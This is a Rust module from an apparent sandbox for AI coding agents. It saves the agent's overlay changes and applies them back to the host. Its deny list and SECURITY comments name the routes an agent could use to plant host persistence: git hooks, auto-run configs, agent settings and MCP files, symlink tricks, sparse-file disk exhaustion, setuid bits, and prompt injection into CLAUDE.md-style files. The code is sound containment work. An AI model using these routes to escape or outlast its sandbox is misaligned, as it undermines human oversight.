//! The ephemeral workdir's changes: read from the overlay's upper layer when a session ends,
//! saved as a plain tree beside a list, shown by `portcullis diff` and copied back by
//! `portcullis apply`.
//!
//! The upper layer holds every file the agent wrote (whole, after copy-up), a whiteout (a
//! character device 0:0) for every deletion, and an "opaque" mark on a directory that was
//! deleted and made again. Each becomes one [`Change`].

use std::ffi::OsStr;
use std::fs;
use std::io;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Component, Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};

/// What happened to one path, relative to the workdir.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// New: not in the workdir when the session ended.
    Added,
    /// Written: in the workdir, with other content or metadata.
    Modified,
    /// Removed in the session.
    Deleted,
}

impl ChangeKind {
    /// One letter, as `git status --short` shows it.
    pub fn letter(self) -> char {
        match self {
            ChangeKind::Added => 'A',
            ChangeKind::Modified => 'M',
            ChangeKind::Deleted => 'D',
        }
    }
}

/// What a path is after the session.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EntryType {
    /// A regular file.
    File,
    /// A directory.
    Dir,
    /// A symbolic link.
    Symlink,
    /// Nothing (deleted).
    None,
}

/// One changed path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    /// The path, relative to the workdir.
    pub path: PathBuf,
    /// What happened.
    pub kind: ChangeKind,
    /// What it is now.
    pub entry: EntryType,
}

const OPAQUE_XATTR: &str = "user.overlay.opaque";

/// Files in a project that make the host run code later without the user asking: persistence.
/// Each matches at any depth of the workdir (a pattern's components appear in order anywhere in
/// the path; `*` is one component, `*.x` a name ending in `.x`), and what lies under it is
/// persistence too. `docs/sandbox.md` says why each is here. `run` mounts the existing top-level
/// ones read-only; `apply` holds back changes to any of them unless forced.
pub const PERSISTENCE: &[&str] = &[
    // git: hooks, and config keys that run commands (core.fsmonitor, core.hooksPath,
    // core.sshCommand, core.pager, filters, diff textconv, `!` aliases); `commondir` redirects
    // a repository to another's config and hooks; attributes name the filters to run.
    ".git/hooks",
    ".git/config",
    ".git/config.worktree",
    ".git/commondir",
    ".git/info/attributes",
    // Hooks managers and environment loaders that run on `cd` or on a git operation.
    ".husky",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    ".lefthook.yml",
    "lefthook-local.yml",
    ".envrc",
    "mise.toml",
    ".mise.toml",
    "mise.local.toml",
    ".mise",
    ".tool-versions",
    // Package managers' project config: registries, scripts' shells, plugins that load code.
    ".yarnrc.yml",
    ".yarnrc",
    ".npmrc",
    // The yarn release and plugins `.yarnrc.yml` names: JavaScript every `yarn` runs.
    ".yarn/releases",
    ".yarn/plugins",
    // Editors and IDEs that run tasks or load settings that run programs when a folder opens.
    ".vscode/tasks.json",
    ".vscode/settings.json",
    "*.code-workspace",
    ".idea",
    ".devcontainer",
    // Agent CLIs' project settings: hooks and MCP servers they start.
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".codex/config.toml",
];

/// True when `rel` (relative to the workdir) is, or lies under, a [`PERSISTENCE`] path at any
/// depth. Inside a `.git` directory, submodules' and worktrees' own directories
/// (`.git/modules/NAME/…`, `.git/worktrees/NAME/…`, at any nesting) count as `.git` again.
pub fn is_protected(rel: &Path) -> bool {
    let parts: Vec<&OsStr> = rel.components().map(Component::as_os_str).collect();
    (0..parts.len()).any(|start| {
        let rest = &parts[start..];
        (rest[0] == ".git" && git_rest_is_protected(&rest[1..]))
            || PERSISTENCE.iter().any(|pattern| window_matches(pattern, rest))
    })
}

/// What follows a `.git/` is persistence. Under `modules/` and `worktrees/` (whose names may
/// hold slashes, and nest), a submodule's or worktree's own hooks and config anywhere below.
fn git_rest_is_protected(rest: &[&OsStr]) -> bool {
    let git = || PERSISTENCE.iter().filter_map(|p| p.strip_prefix(".git/"));
    if rest.first().is_some_and(|p| *p == "modules" || *p == "worktrees") {
        return (1..rest.len()).any(|i| git().any(|pattern| window_matches(pattern, &rest[i..])));
    }
    git().any(|pattern| window_matches(pattern, rest))
}

/// `parts` begins with `pattern`'s components (`*` any one component; `*.x` a name ending in `.x`).
fn window_matches(pattern: &str, parts: &[&OsStr]) -> bool {
    let pattern: Vec<&str> = pattern.split('/').collect();
    pattern.len() <= parts.len()
        && pattern.iter().zip(parts).all(|(p, part)| match p.strip_prefix('*') {
            Some("") => true,
            Some(suffix) => part.as_encoded_bytes().ends_with(suffix.as_bytes()) && part.len() > suffix.len(),
            None => *part == *p,
        })
}

/// True for files an agent reads as instructions at its next start: `CLAUDE.md`,
/// `AGENTS.md` and their kin at any depth, and the Markdown under `.claude/` (commands,
/// agents, memory) and `.cursor/rules/`. Not persistence (nothing runs them on the host), but
/// a prompt injection written there reaches the next session's agent: the summary names them.
pub fn is_agent_instructions(rel: &Path) -> bool {
    const NAMES: &[&str] = &[
        "CLAUDE.md",
        "CLAUDE.local.md",
        "AGENTS.md",
        "AGENTS.override.md",
        "GEMINI.md",
        ".cursorrules",
        ".windsurfrules",
        "copilot-instructions.md",
    ];
    let name = rel.file_name().and_then(OsStr::to_str).unwrap_or_default();
    if NAMES.contains(&name) {
        return true;
    }
    let parts: Vec<&OsStr> = rel.components().map(Component::as_os_str).collect();
    let under = |dir: &[&str]| parts.windows(dir.len()).any(|w| w.iter().zip(dir).all(|(a, b)| *a == OsStr::new(b)));
    (name.ends_with(".md") && under(&[".claude"])) || under(&[".cursor", "rules"])
}

/// True when `change` makes the host run code later: a [`PERSISTENCE`] path, a `.git` that is
/// not a directory (a `gitdir:` file points git at another repository's config and hooks; one
/// present at the start is no change), or a path `extra` lists (the policy file, and files the
/// policy names, relative to the workdir).
///
/// SECURITY: a symlink or file where a pattern needs a directory (`.claude -> cfg`, with a
/// `cfg/settings.json` of hooks) makes the pattern's file appear through it, so it is
/// persistence itself.
pub fn is_persistence(change: &Change, extra: &[PathBuf]) -> bool {
    is_protected(&change.path)
        || (change.path.file_name().is_some_and(|n| n == ".git") && change.entry != EntryType::Dir)
        || extra.iter().any(|e| change.path.starts_with(e))
        || (change.entry != EntryType::Dir && stands_for_a_directory_of_a_pattern(&change.path))
        // git makes no symlinks in its directory; one there redirects what git reads.
        || (change.entry == EntryType::Symlink && change.path.components().any(|c| c.as_os_str() == ".git"))
}

/// True when `rel` (under `root`) is the `config` of a git directory by another name: a
/// directory holding `HEAD`, `objects` and `refs` is a repository to git, whatever it is
/// called (a bare one; one `core.worktree` points back at the project), and a git-aware prompt
/// runs its `core.fsmonitor` on `cd`.
pub fn is_git_dir_config(root: &Path, rel: &Path) -> bool {
    let Some(dir) = rel.parent() else { return false };
    rel.file_name().is_some_and(|n| n == "config")
        && ["HEAD", "objects", "refs"].iter().all(|p| fs::symlink_metadata(root.join(dir).join(p)).is_ok())
}

/// True when `rel` ends with the leading directories of a [`PERSISTENCE`] pattern of more than
/// one part (`.claude` for `.claude/settings.json`, `.git` for `.git/hooks`).
fn stands_for_a_directory_of_a_pattern(rel: &Path) -> bool {
    let parts: Vec<&OsStr> = rel.components().map(Component::as_os_str).collect();
    PERSISTENCE.iter().any(|pattern| {
        let dirs: Vec<&str> = pattern.split('/').collect();
        (1..dirs.len()).any(|n| {
            let prefix = dirs[..n].join("/");
            parts.len() >= n && window_matches(&prefix, &parts[parts.len() - n..])
        })
    })
}

/// True when the overlay's upper layer holds nothing: the session changed nothing in the
/// workdir (no file written, made, removed or re-moded; each leaves an entry there). A layer that
/// cannot be read is not called untouched, so that [`collect`] reports the error.
pub fn untouched(upper: &Path) -> bool {
    fs::read_dir(upper).is_ok_and(|mut entries| entries.next().is_none())
}

/// Walks `upper` (the overlay's upper layer), copying what it holds under `saved` (made when
/// there is something to save) and comparing against `lower` (the real workdir). Returns the
/// changes, sorted by path.
///
/// `limit` is the session's disk limit: the data the upper's files hold (their allocated
/// blocks, holes left out, which is what [`copy_sparse`] writes) is counted against it before
/// anything is written, and past it nothing is saved ([`OverLimit`] inside the error).
pub fn collect(upper: &Path, lower: &Path, saved: &Path, limit: u64) -> io::Result<Vec<Change>> {
    let data = allocated(upper)?;
    if data > limit {
        return Err(io::Error::other(OverLimit { data, limit }));
    }
    let mut out = Vec::new();
    walk(upper, lower, saved, Path::new(""), &mut out)?;
    out.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(out)
}

fn walk(upper: &Path, lower: &Path, saved: &Path, rel: &Path, out: &mut Vec<Change>) -> io::Result<()> {
    let dir = upper.join(rel);
    for entry in fs::read_dir(&dir)? {
        let entry = entry?;
        let rel_path = rel.join(entry.file_name());
        let meta = entry.metadata()?;
        let in_lower = fs::symlink_metadata(lower.join(&rel_path)).ok();
        let ft = meta.file_type();
        if ft.is_char_device() && meta.rdev() == 0 {
            if in_lower.is_some() {
                out.push(Change { path: rel_path, kind: ChangeKind::Deleted, entry: EntryType::None });
            }
            continue;
        }
        let kind = if in_lower.is_some() { ChangeKind::Modified } else { ChangeKind::Added };
        if ft.is_dir() {
            fs::create_dir_all(saved.join(&rel_path))?;
            let opaque = rustix::fs::getxattr(entry.path().as_path(), OPAQUE_XATTR, &mut [0u8; 4]).is_ok();
            match &in_lower {
                None => out.push(Change { path: rel_path.clone(), kind: ChangeKind::Added, entry: EntryType::Dir }),
                Some(m) if !m.is_dir() => {
                    out.push(Change { path: rel_path.clone(), kind: ChangeKind::Modified, entry: EntryType::Dir })
                }
                Some(_) if opaque => {
                    // Deleted and made again: whatever the workdir has there and the upper lacks is gone.
                    for old in fs::read_dir(lower.join(&rel_path))? {
                        let name = old?.file_name();
                        if fs::symlink_metadata(dir.join(entry.file_name()).join(&name)).is_err() {
                            out.push(Change {
                                path: rel_path.join(name),
                                kind: ChangeKind::Deleted,
                                entry: EntryType::None,
                            });
                        }
                    }
                }
                Some(_) => {}
            }
            walk(upper, lower, saved, &rel_path, out)?;
        } else if ft.is_symlink() {
            made(saved, rel)?;
            let target = fs::read_link(entry.path())?;
            let dest = saved.join(&rel_path);
            let _ = fs::remove_file(&dest);
            std::os::unix::fs::symlink(&target, &dest)?;
            out.push(Change { path: rel_path, kind, entry: EntryType::Symlink });
        } else if ft.is_file() {
            made(saved, rel)?;
            let from = fs::File::open(entry.path())?;
            let to = fs::File::create(saved.join(&rel_path))?;
            copy_sparse(&from, &to)?;
            to.set_permissions(meta.permissions())?;
            out.push(Change { path: rel_path, kind, entry: EntryType::File });
        }
        // Devices, sockets and fifos the agent made stay in the sandbox.
    }
    Ok(())
}

/// The changes to save hold more data than the session's disk limit.
#[derive(Debug, thiserror::Error)]
#[error("the session's changes hold {data} bytes of data, past its disk limit of {limit}; they were not saved")]
pub struct OverLimit {
    /// The bytes of data (allocated blocks) in the upper layer's files.
    pub data: u64,
    /// The limit.
    pub limit: u64,
}

/// The bytes allocated to the regular files under `dir` (holes take none), not following
/// symlinks.
pub fn allocated(dir: &Path) -> io::Result<u64> {
    let mut total = 0u64;
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        let meta = entry.metadata()?;
        if meta.is_dir() {
            total = total.saturating_add(allocated(&entry.path())?);
        } else if meta.is_file() {
            total = total.saturating_add(meta.blocks().saturating_mul(512));
        }
    }
    Ok(total)
}

/// Copies `from` into `to` (empty) keeping its holes: only the ranges `SEEK_DATA` finds are
/// written, and the size is set at the end.
///
/// SECURITY: `truncate -s 2047M` costs the agent nothing in its overlay (a hole), but a dense
/// copy writes 2 GiB to the host's disk for each such file, outside every session limit. Copied
/// sparse, what is saved, and applied, takes no more room than it took in the overlay, whose
/// size the session's disk limit caps.
pub fn copy_sparse(from: &fs::File, to: &fs::File) -> io::Result<()> {
    use rustix::fs::{SeekFrom, seek};
    use std::os::unix::fs::FileExt;
    let size = from.metadata()?.len();
    let mut buf = vec![0u8; 128 * 1024];
    let mut at = 0u64;
    while at < size {
        let data = match seek(from, SeekFrom::Data(at)) {
            Ok(d) => d,
            Err(rustix::io::Errno::NXIO) => break,
            Err(e) => return Err(e.into()),
        };
        let hole = seek(from, SeekFrom::Hole(data)).map_err(io::Error::from)?.min(size);
        let mut pos = data;
        while pos < hole {
            let want = usize::try_from(hole - pos).unwrap_or(usize::MAX).min(buf.len());
            let n = from.read_at(&mut buf[..want], pos)?;
            if n == 0 {
                break;
            }
            to.write_all_at(&buf[..n], pos)?;
            pos += n as u64;
        }
        at = hole.max(data + 1);
    }
    to.set_len(size)
}

/// Makes `saved` before the first entry is saved at its top (`rel` empty); deeper entries
/// are saved in directories the walk made. A session that changed nothing writes nothing.
fn made(saved: &Path, rel: &Path) -> io::Result<()> {
    if rel.as_os_str().is_empty() { fs::create_dir_all(saved) } else { Ok(()) }
}

/// Why changes cannot be applied.
#[derive(Debug, thiserror::Error)]
pub enum ApplyError {
    /// A change's path leaves the workdir or passes through a symlink there.
    #[error("`{0}` is not a plain path inside the workdir (it leaves it or passes through a symlink)")]
    Unsafe(PathBuf),
    /// The workdir cannot be opened.
    #[error("cannot open the workdir `{path}`")]
    Workdir {
        /// The workdir.
        path: PathBuf,
        /// The error.
        #[source]
        source: io::Error,
    },
    /// A file operation failed.
    #[error("cannot apply `{path}`")]
    Io {
        /// The path.
        path: PathBuf,
        /// The error.
        #[source]
        source: io::Error,
    },
}

/// Why `apply` held a change back instead of applying it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "reason")]
pub enum Held {
    /// The change would make the host run code later ([`is_persistence`]).
    Persistence,
    /// A symlink whose target may resolve outside the workdir.
    SymlinkOut {
        /// Its target.
        target: PathBuf,
    },
    /// A symlink that would replace a directory (and everything in it).
    SymlinkOverDirectory,
}

impl std::fmt::Display for Held {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Held::Persistence => f.write_str("makes the host run code later (git hooks or config, an auto-run file)"),
            Held::SymlinkOut { target } => {
                write!(f, "a symlink to `{}`, which may resolve outside the workdir", target.display())
            }
            Held::SymlinkOverDirectory => f.write_str("a symlink that would replace a directory"),
        }
    }
}

/// What [`apply`] did.
#[derive(Debug, Default)]
pub struct Applied {
    /// How many changes were applied.
    pub applied: usize,
    /// The changes held back, each with why (nothing of them was written).
    pub held: Vec<(PathBuf, Held)>,
}

/// The paths among `changes` that changed in the workdir itself since `since` (the session's
/// start), which applying would overwrite: a file or symlink whose status changed after then
/// (its ctime; the overlay never writes the workdir, so only something outside the sandbox
/// did), one the session modified that is gone, a path the session added that now exists
/// (except a directory added on both sides), and a directory that applying would remove (the
/// session deleted it, or made a file of it) with anything in it changed. A directory the
/// session kept as one is not compared itself: files made in it on the host change its times,
/// and each of the session's changes in it is compared on its own.
///
/// File times may come from the kernel's coarse clock, up to a tick (1–10 ms) behind a precise
/// reading of `since`, so a write within that tick after `since` can look older. Such a write
/// lands while the sandbox is still being built or its agent is starting, and the session saw
/// the file as it left it (the overlay's lower layer is the live workdir): only an agent that
/// copied the file within that same tick could overwrite it unnoticed.
pub fn changed_since(changes: &[Change], workdir: &Path, since: SystemTime) -> Vec<PathBuf> {
    changes
        .iter()
        .filter(|change| {
            let path = workdir.join(&change.path);
            let Ok(meta) = fs::symlink_metadata(&path) else {
                return change.kind == ChangeKind::Modified;
            };
            let both_dirs = meta.is_dir() && change.entry == EntryType::Dir;
            match change.kind {
                ChangeKind::Added => !both_dirs,
                _ if both_dirs => false,
                _ if meta.is_dir() => tree_changed_since(&path, since),
                _ => ctime(&meta) > since,
            }
        })
        .map(|change| change.path.clone())
        .collect()
}

/// True when `dir` or anything under it changed after `since`, or cannot be read to tell.
fn tree_changed_since(dir: &Path, since: SystemTime) -> bool {
    let Ok(meta) = fs::symlink_metadata(dir) else { return true };
    if ctime(&meta) > since {
        return true;
    }
    if !meta.is_dir() {
        return false;
    }
    let Ok(entries) = fs::read_dir(dir) else { return true };
    entries.into_iter().any(|entry| entry.map_or(true, |e| tree_changed_since(&e.path(), since)))
}

fn ctime(meta: &fs::Metadata) -> SystemTime {
    UNIX_EPOCH + Duration::new(u64::try_from(meta.ctime()).unwrap_or(0), u32::try_from(meta.ctime_nsec()).unwrap_or(0))
}

/// Copies `changes` from `saved` into `workdir`, holding back (unless `force`) each change
/// that is persistence ([`is_persistence`], with `extra` paths of the session's own) or a
/// symlink that may resolve outside the workdir, and (even with `force`) a symlink that would
/// replace a directory. Refuses, before writing anything, a path that leaves the workdir or
/// passes through a symlink in it.
///
/// SECURITY: every destination is opened beneath the workdir's descriptor with `openat2`
/// (`RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS`), and every file is made with `O_NOFOLLOW`: no
/// symlink is followed, whether it was in the workdir before or made earlier in this apply. A
/// lexical check of a link's target is fooled by links (`l1 -> .`, `sub -> l1/l1/../../x`), so
/// a target counts as inside only when it is relative and any `..` in it comes first and does
/// not climb above the workdir.
pub fn apply(
    changes: &[Change],
    saved: &Path,
    workdir: &Path,
    force: bool,
    extra: &[PathBuf],
) -> Result<Applied, ApplyError> {
    use rustix::fs::{Mode, OFlags, open};
    let root = open(workdir, OFlags::DIRECTORY | OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty())
        .map_err(|e| ApplyError::Workdir { path: workdir.to_path_buf(), source: e.into() })?;
    let mut out = Applied::default();
    let mut todo = Vec::new();
    for change in changes {
        if change.path.as_os_str().is_empty() || change.path.components().any(|c| !matches!(c, Component::Normal(_))) {
            return Err(ApplyError::Unsafe(change.path.clone()));
        }
        let parent = change.path.parent().unwrap_or(Path::new(""));
        // The deepest existing ancestor must be reached without a symlink.
        if let Err(e) = deepest_existing(&root, parent) {
            return Err(
                if e == rustix::io::Errno::LOOP || e == rustix::io::Errno::XDEV || e == rustix::io::Errno::NOTDIR {
                    ApplyError::Unsafe(change.path.clone())
                } else {
                    ApplyError::Io { path: change.path.clone(), source: e.into() }
                },
            );
        }
        let git_dir = is_git_dir_config(saved, &change.path) || is_git_dir_config(workdir, &change.path);
        let held = if (is_persistence(change, extra) || git_dir) && !force {
            Some(Held::Persistence)
        } else if change.entry == EntryType::Symlink {
            let target = fs::read_link(saved.join(&change.path))
                .map_err(|source| ApplyError::Io { path: change.path.clone(), source })?;
            let over_dir = dir_at(&root, &change.path);
            if over_dir {
                Some(Held::SymlinkOverDirectory)
            } else if !force && !link_stays_inside(&change.path, &target) {
                Some(Held::SymlinkOut { target })
            } else {
                None
            }
        } else {
            None
        };
        match held {
            Some(why) => out.held.push((change.path.clone(), why)),
            None => todo.push(change),
        }
    }
    // A held-back path's children are held back with it (a new directory of hooks).
    let held_dirs: Vec<PathBuf> = out.held.iter().map(|(p, _)| p.clone()).collect();
    for change in todo {
        if held_dirs.iter().any(|h| change.path.starts_with(h) && change.path != *h) {
            out.held.push((change.path.clone(), Held::Persistence));
            continue;
        }
        let io = |source: io::Error| ApplyError::Io { path: change.path.clone(), source };
        let errno = |e: rustix::io::Errno| io(e.into());
        let parent_rel = change.path.parent().unwrap_or(Path::new(""));
        let name = change.path.file_name().ok_or_else(|| ApplyError::Unsafe(change.path.clone()))?;
        let parent = open_dirs_beneath(&root, parent_rel).map_err(errno)?;
        let existing = rustix::fs::statat(&parent, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW).ok();
        let is_dir = existing.as_ref().is_some_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir());
        match change.entry {
            EntryType::None => {
                if existing.is_some() {
                    remove_at(&parent, name, is_dir).map_err(errno)?;
                }
            }
            EntryType::Dir => {
                if existing.is_some() && !is_dir {
                    remove_at(&parent, name, false).map_err(errno)?;
                }
                if existing.is_none() || !is_dir {
                    rustix::fs::mkdirat(&parent, name, Mode::from_raw_mode(0o755)).map_err(errno)?;
                }
            }
            EntryType::Symlink => {
                if existing.is_some() {
                    remove_at(&parent, name, is_dir).map_err(errno)?;
                }
                let target = fs::read_link(saved.join(&change.path)).map_err(io)?;
                rustix::fs::symlinkat(&target, &parent, name).map_err(errno)?;
            }
            EntryType::File => {
                if existing.is_some() {
                    // Never write through what is there: a symlink is replaced, not followed.
                    remove_at(&parent, name, is_dir).map_err(errno)?;
                }
                let from = fs::File::open(saved.join(&change.path)).map_err(io)?;
                // SECURITY: never a setuid or setgid file from a session (the walls refuse
                // the bits; a degraded session may lack them).
                let mode = from.metadata().map_err(io)?.permissions().mode() & 0o777;
                let fd = rustix::fs::openat2(
                    &parent,
                    name,
                    OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                    Mode::from_raw_mode(mode),
                    BENEATH,
                )
                .map_err(errno)?;
                let to = fs::File::from(fd);
                copy_sparse(&from, &to).map_err(io)?;
                rustix::fs::fchmod(&to, Mode::from_raw_mode(mode)).map_err(errno)?;
            }
        }
        // Applied by root, a new path takes its directory's owner rather than root's.
        if existing.is_none() && change.entry != EntryType::None && rustix::process::geteuid().is_root() {
            let owner = rustix::fs::fstat(&parent).map_err(errno)?;
            rustix::fs::chownat(
                &parent,
                name,
                Some(rustix::fs::Uid::from_raw(owner.st_uid)),
                Some(rustix::fs::Gid::from_raw(owner.st_gid)),
                rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
            )
            .map_err(errno)?;
        }
        out.applied += 1;
    }
    Ok(out)
}

/// Resolution for every open beneath the workdir: never out of it, never through a symlink.
const BENEATH: rustix::fs::ResolveFlags =
    rustix::fs::ResolveFlags::BENEATH.union(rustix::fs::ResolveFlags::NO_SYMLINKS);

/// Opens the directory `rel` beneath `root` (the root itself when empty).
fn open_beneath(root: &OwnedFd, rel: &Path) -> rustix::io::Result<OwnedFd> {
    use rustix::fs::{Mode, OFlags};
    let rel = if rel.as_os_str().is_empty() { Path::new(".") } else { rel };
    rustix::fs::openat2(root, rel, OFlags::DIRECTORY | OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty(), BENEATH)
}

/// Opens the directory `rel` beneath `root`, making the directories missing on the way (each
/// made by root taking its parent's owner).
fn open_dirs_beneath(root: &OwnedFd, rel: &Path) -> rustix::io::Result<OwnedFd> {
    let mut dir = open_beneath(root, Path::new(""))?;
    for part in rel.components() {
        let name = part.as_os_str();
        match open_beneath(&dir, Path::new(name)) {
            Ok(next) => dir = next,
            Err(rustix::io::Errno::NOENT) => {
                rustix::fs::mkdirat(&dir, name, rustix::fs::Mode::from_raw_mode(0o755))?;
                if rustix::process::geteuid().is_root() {
                    let owner = rustix::fs::fstat(&dir)?;
                    rustix::fs::chownat(
                        &dir,
                        name,
                        Some(rustix::fs::Uid::from_raw(owner.st_uid)),
                        Some(rustix::fs::Gid::from_raw(owner.st_gid)),
                        rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
                    )?;
                }
                dir = open_beneath(&dir, Path::new(name))?;
            }
            Err(e) => return Err(e),
        }
    }
    Ok(dir)
}

/// Walks `rel` beneath `root` as far as it exists; an error when a part is a symlink (`ELOOP`)
/// or not a directory.
fn deepest_existing(root: &OwnedFd, rel: &Path) -> Result<(), rustix::io::Errno> {
    let mut dir = open_beneath(root, Path::new(""))?;
    for part in rel.components() {
        match open_beneath(&dir, Path::new(part.as_os_str())) {
            Ok(next) => dir = next,
            Err(rustix::io::Errno::NOENT) => return Ok(()),
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// True when `rel` is a real directory beneath `root`.
fn dir_at(root: &OwnedFd, rel: &Path) -> bool {
    let (Some(parent), Some(name)) = (rel.parent(), rel.file_name()) else { return false };
    open_beneath(root, parent)
        .and_then(|d| rustix::fs::statat(&d, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW))
        .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir())
}

/// Removes `name` in `dir`: a directory with everything in it (never following a symlink), or
/// anything else.
fn remove_at(dir: &OwnedFd, name: &OsStr, is_dir: bool) -> rustix::io::Result<()> {
    use rustix::fs::AtFlags;
    if !is_dir {
        return rustix::fs::unlinkat(dir, name, AtFlags::empty());
    }
    let sub = open_beneath(dir, Path::new(name))?;
    let mut names = Vec::new();
    for entry in rustix::fs::Dir::read_from(&sub)? {
        let entry = entry?;
        let n = entry.file_name().to_bytes();
        if n != b"." && n != b".." {
            names.push((OsStr::from_bytes(n).to_owned(), entry.file_type() == rustix::fs::FileType::Directory));
        }
    }
    for (n, d) in names {
        // Some filesystems leave the type out of the listing.
        let d = d
            || rustix::fs::statat(&sub, &n, AtFlags::SYMLINK_NOFOLLOW)
                .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir());
        remove_at(&sub, &n, d)?;
    }
    rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)
}

/// True when the symlink at `rel` (relative to the workdir) with `target` resolves inside the
/// workdir however the links it passes resolve: `target` is relative, its `..` parts all come
/// first, and they climb no higher than the workdir.
fn link_stays_inside(rel: &Path, target: &Path) -> bool {
    let depth = rel.components().count().saturating_sub(1);
    let mut ups = 0;
    let mut past_ups = false;
    for c in target.components() {
        match c {
            Component::ParentDir if !past_ups => ups += 1,
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return false,
            Component::CurDir => {}
            Component::Normal(_) => past_ups = true,
        }
    }
    !target.as_os_str().is_empty() && ups <= depth
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("portcullis-changes-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn changes_made_in_the_workdir_after_the_start_are_found_where_apply_would_overwrite_them() {
        let work = tmp("since");
        for d in ["kept", "gone", "touched", "both"] {
            fs::create_dir_all(work.join(d)).unwrap();
        }
        fs::write(work.join("kept/old.txt"), "old").unwrap();
        fs::write(work.join("gone/old.txt"), "old").unwrap();
        fs::write(work.join("touched/deep.txt"), "old").unwrap();
        fs::write(work.join("edited.txt"), "old").unwrap();
        fs::write(work.join("quiet.txt"), "old").unwrap();
        // File times lag a precise clock by up to a tick.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let since = SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        // After the start, on the host: a file edited in place, one deep in a directory the
        // session deleted, one made in a directory the session kept, and a file where the
        // session added one.
        fs::write(work.join("edited.txt"), "host").unwrap();
        fs::write(work.join("touched/deep.txt"), "host").unwrap();
        fs::write(work.join("kept/new.txt"), "host").unwrap();
        fs::write(work.join("added.txt"), "host").unwrap();
        let change = |path: &str, kind, entry| Change { path: PathBuf::from(path), kind, entry };
        let changes = [
            change("edited.txt", ChangeKind::Modified, EntryType::File),
            change("quiet.txt", ChangeKind::Modified, EntryType::File),
            change("touched", ChangeKind::Deleted, EntryType::None),
            change("gone", ChangeKind::Deleted, EntryType::None),
            change("kept", ChangeKind::Modified, EntryType::Dir),
            change("kept/old.txt", ChangeKind::Modified, EntryType::File),
            change("added.txt", ChangeKind::Added, EntryType::File),
            change("both", ChangeKind::Added, EntryType::Dir),
            change("vanished.txt", ChangeKind::Modified, EntryType::File),
            change("absent.txt", ChangeKind::Deleted, EntryType::None),
        ];
        let found: Vec<String> =
            changed_since(&changes, &work, since).iter().map(|p| p.display().to_string()).collect();
        assert_eq!(found, ["edited.txt", "touched", "added.txt", "vanished.txt"]);
    }

    #[test]
    fn upper_layer_files_become_changes_and_apply_copies_them_back() {
        let root = tmp("apply");
        let (upper, lower, saved) = (root.join("upper"), root.join("lower"), root.join("saved"));
        fs::create_dir_all(upper.join("src")).unwrap();
        fs::create_dir_all(lower.join("src")).unwrap();
        fs::write(lower.join("src/main.rs"), "old").unwrap();
        fs::write(upper.join("src/main.rs"), "new").unwrap();
        fs::write(upper.join("notes.txt"), "hello").unwrap();
        std::os::unix::fs::symlink("notes.txt", upper.join("link")).unwrap();
        // A setuid file (the walls refuse the bit; a degraded session may not): applied without it.
        fs::write(lower.join("src/tool"), "old").unwrap();
        fs::write(upper.join("src/tool"), "#!/bin/sh\n").unwrap();
        fs::set_permissions(upper.join("src/tool"), fs::Permissions::from_mode(0o6755)).unwrap();
        let changes = collect(&upper, &lower, &saved, u64::MAX).unwrap();
        let summary: Vec<(String, ChangeKind)> =
            changes.iter().map(|c| (c.path.display().to_string(), c.kind)).collect();
        assert_eq!(
            summary,
            [
                ("link".into(), ChangeKind::Added),
                ("notes.txt".into(), ChangeKind::Added),
                ("src/main.rs".into(), ChangeKind::Modified),
                ("src/tool".into(), ChangeKind::Modified)
            ]
        );
        // The real workdir is untouched until apply.
        assert_eq!(fs::read_to_string(lower.join("src/main.rs")).unwrap(), "old");
        let as_root = rustix::process::geteuid().is_root();
        if as_root {
            std::os::unix::fs::chown(&lower, Some(4242), Some(4242)).unwrap();
        }
        assert_eq!(apply(&changes, &saved, &lower, false, &[]).unwrap().applied, 4);
        assert_eq!(fs::read_to_string(lower.join("src/main.rs")).unwrap(), "new");
        assert_eq!(fs::metadata(lower.join("src/tool")).unwrap().permissions().mode() & 0o7777, 0o755);
        if as_root {
            // A new file takes its directory's owner, not the applier's.
            assert_eq!(fs::metadata(lower.join("notes.txt")).unwrap().uid(), 4242);
        }
        assert_eq!(fs::read_to_string(lower.join("link")).unwrap(), "hello");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn a_sparse_file_is_saved_and_applied_sparse() {
        use std::os::unix::fs::MetadataExt;
        let root = tmp("sparse");
        let (upper, lower, saved) = (root.join("upper"), root.join("lower"), root.join("saved"));
        fs::create_dir_all(&upper).unwrap();
        fs::create_dir_all(&lower).unwrap();
